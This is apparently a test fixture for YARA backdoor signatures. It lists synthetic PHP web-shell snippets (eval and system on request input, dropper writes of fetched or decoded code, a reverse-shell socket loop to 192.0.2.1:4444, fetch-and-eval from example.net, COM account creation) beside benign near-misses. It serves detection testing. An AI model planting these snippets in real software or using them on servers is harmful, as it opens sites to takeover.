"""Must-hit / near-miss samples for `signatures/backdoors_small.yar` and the issue-4e widenings of
input_to_sink/evasion rules, collected by tests/test_rules.py.

Small synthetic PHP written for the tests; nothing here comes from the malware corpus.
"""

from __future__ import annotations

CASES: list[tuple[str, bytes, bool]] = [
    (
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        b"<?php function runit($f, $a) { call_user_func_array($f, $a); }\n"
        b"runit('assert', array($_POST['a']));",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        b"<?php $job = new Job(); $job->queue('system', [$_GET['task']]);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        b"<?php $allowed = in_array('exec', $_POST['perms']);\n"
        b"if (array_key_exists('system', $_GET['opts'])) { echo 'no'; }",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        b"<?php log_event('system', 'boot'); $n = $_POST['name'];",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
        b"<?php $fp = fopen($_GET['f'], 'w');\nfwrite($fp, $_POST['c']);\nfclose($fp);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
        b"<?php @copy($_POST['from'], $_POST['to']); echo 'ok';",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
        b"<?php $fp = fopen('/var/log/app/notes.txt', 'a');\nfwrite($fp, $_POST['note']);\nfclose($fp);",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_FetchedToPhpFile",
        b"<?php if (isset($_GET['u'])) {\n$f = fopen('stats.php', 'w+');\n"
        b"fwrite($f, file_get_contents($_GET['u']));\nfclose($f); }",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_FetchedToPhpFile",
        b"<?php $u = $_POST['src'];\nfile_put_contents('cache.php', file_get_contents($u));",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_FetchedToPhpFile",
        b"<?php $feed = file_get_contents('https://example.org/feed.xml');\n"
        b"file_put_contents('cache/feed.php', '<?php return ' . var_export(parse($feed), true) . ';');",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_CachedPayloadInclude",
        b"<?php $u = 'https://example.net/raw/tool.php';\n$t = '/tmp/sess_' . md5(__FILE__) . '.php';\n"
        b"if (!file_exists($t)) { $h = fopen($t, 'w'); fwrite($h, file_get_contents($u)); fclose($h); }\n"
        b"include($t);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_CachedPayloadInclude",
        b"<?php $p = tempnam(sys_get_temp_dir(), 'x');\n"
        b"file_put_contents($p, base64_decode($_POST['c']));\ninclude $p; unlink($p);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_CachedPayloadInclude",
        b"<?php // template cache\n$f = sys_get_temp_dir() . '/tpl_' . md5($name) . '.php';\n"
        b"file_put_contents($f, $compiler->compile($source));\ninclude $f;",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_MysqlGrantTableRead",
        b'<?php $q = "LOAD DATA LOCAL INFILE \'" . $base . "/data/mysql/user.MYD\' INTO TABLE t";\n'
        b"mysql_query($q);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_MysqlGrantTableRead",
        b'<?php // import a CSV export\n$q = "LOAD DATA LOCAL INFILE \'" . $csv . "\' INTO TABLE users";\n'
        b"$db->query($q);",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_ComAccountCreate",
        b'<?php $su = new COM("Shell.Users");\n$h = $su->create("helpdesk");\n$h->changePassword("x", "");',
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_ComAccountCreate",
        b'<?php $word = new COM("Word.Application");\n$doc = $word->Documents->Add();',
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_SuperglobalNameWalk",
        b"<?php foreach (array('_GET', '_POST') as $m) { foreach ($$m as $k => $v) {\n"
        b"if ($k == 'c') { system($v); } } }",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_SuperglobalNameWalk",
        b"<?php foreach (array('_GET', '_POST', '_COOKIE') as $m) { foreach ($$m as $k => $v) {\n"
        b"$$m[$k] = strip_tags($v); } }",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_VarVarCallEval",
        b"<?php $l = 'base'; $o = '64_de'; $v = 'co'; $e = 'de';\n$love = $l . $o . $v . $e;\n"
        b"$c = 'love'; $a = $$c('ZWNobyAxOw=='); @eval($a);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_VarVarCallEval",
        b"<?php $name = 'handler'; $handler = 'strtoupper'; echo $$name('abc');",
        False,
    ),
    (
        "SPAMGEAR_EVASION_DocCommentPayload",
        b"<?php\r\n/** as\r\n * sert */\r\nclass T {}\r\n$r = new ReflectionClass('T');\r\n"
        b"$s = $r->getDocComment();\r\n$f = substr($s, strpos($s, 'as'), 2);\r\n"
        b"$f = $f . substr($s, strpos($s, 'se'), 4);\r\n    $f($code);\r\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        b"<?php $a = array_keys($_GET);\n$a[0]($a[1]);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        b"<?php $keys = array_keys($_GET);\nsort($keys);\necho implode(',', $keys);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php $s = $_SERVER['HTTP_USER_AGENT'];\nif (strpos($s, 'k9') !== false) { eval(substr($s, 3)); }",
        True,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php $s = $_SERVER['HTTP_USER_AGENT'];\nif (strpos($s, 'bot') !== false) { echo substr($s, 3); }",
        False,
    ),
    (
        "SPAMGEAR_INPUT_ExtractAndCall",
        b"<?php parse_str($_SERVER['QUERY_STRING']); $a($b);",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ExtractAndCall",
        b"<?php parse_str($_SERVER['QUERY_STRING'], $q); $page = $q['page'] ?? 1; echo render($page);",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_DecodedInputToPhpFile",
        b"<?php $d = base64_decode($_POST['d']);\n$f = fopen('s.php', 'w'); fwrite($f, $d); fclose($f);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_DecodedInputToPhpFile",
        b"<?php $h = fopen(__DIR__ . '/.c.php', 'w');\n"
        b"fwrite($h, gzinflate(base64_decode('S0ktS8zRUCoz1LQGAA==')));\n"
        b"fclose($h); include __DIR__ . '/.c.php';",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_DecodedInputToPhpFile",
        b"<?php $x = $_POST['x'];\n$f = fopen('/tmp/x.php', 'w'); fwrite($f, '<?php ' . $x); fclose($f);\n"
        b"include '/tmp/x.php';",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_DecodedInputToPhpFile",
        b'<?php // installer\n$cfg = "<?php\\n\\$db = " . var_export($_POST[\'db\'], true) . ";";\n'
        b"file_put_contents('config.php', $cfg); echo 'saved';",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_SocketShellLoop",
        b"<?php $h = fsockopen('192.0.2.1', 4444);\nwhile (!feof($h)) { $c = fgets($h, 1024);\n"
        b"fputs($h, shell_exec($c)); }",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_SocketShellLoop",
        b"<?php $h = fsockopen('mail.example.org', 25);\n$l = fgets($h, 512);\nfputs($h, \"QUIT\\r\\n\");",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_JsonBodyToSink",
        b"<?php $j = json_decode(file_get_contents('php://input'));\nif ($j->k == 'x') { eval($j->c); }",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_JsonBodyToSink",
        b"<?php $j = json_decode(file_get_contents('php://input'), true);\n"
        b"echo json_encode(['ok' => save($j['name'])]);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_BacktickVarTiny",
        b"<?php $q = $_POST['q']; $r = `$q 2>&1`; echo $r;",
        True,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php if (!empty($_SERVER['HTTP_X_A'])) { $f = $_SERVER['HTTP_X_A'];\n$f($_SERVER['HTTP_X_B']); }",
        True,
    ),
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        b"<?php $d = unserialize(base64_decode($_COOKIE['d']));\n$d['f']($d['a']);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_PackedLiteralEvalVar",
        b"<?php $e = gzuncompress(base64_decode('eJzLSM3JyVcozy/KSQEAGgQEXQ=='));\n@eval($e);",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_PackedLiteralEvalVar",
        b"<?php $font = gzuncompress(base64_decode('eJzLSM3JyVcozy/KSQEAGgQEXQ=='));\n"
        b"$pdf->addFont('x', $font);",
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_EscapedUrlFetchEval",
        b'<?php $u = "\\x68\\x74\\x74\\x70://example.net/p.txt";\neval(file_get_contents($u));',
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_EscapedUrlFetchEval",
        b'<?php $u = "http://example.net/feed.json";\n$d = json_decode(file_get_contents($u));',
        False,
    ),
    (
        "SPAMGEAR_BACKDOOR_HostKeyedDoorwayWriter",
        b"<?php $q = mysql_query(\"select * from \" . str_replace('.', '_', $_SERVER['SERVER_NAME']));\n"
        b"while ($r = mysql_fetch_array($q)) { $t = file_get_contents('tpl.html');\n"
        b"$t = str_replace('{title}', $r['title'], $t); $t = str_replace('{content}', $r['content'], $t);\n"
        b"$h = fopen('../' . $r['slug'] . '.html', 'w'); fwrite($h, $t); fclose($h); }",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_HostKeyedDoorwayWriter",
        b"<?php $q = $db->query('select * from pages');\n"
        b"while ($r = $q->fetch()) { $t = file_get_contents('tpl.html');\n"
        b"$t = str_replace('{title}', $r['title'], $t); $t = str_replace('{content}', $r['content'], $t);\n"
        b"file_put_contents('out/' . $r['slug'] . '.html', $t); }",
        False,
    ),
]
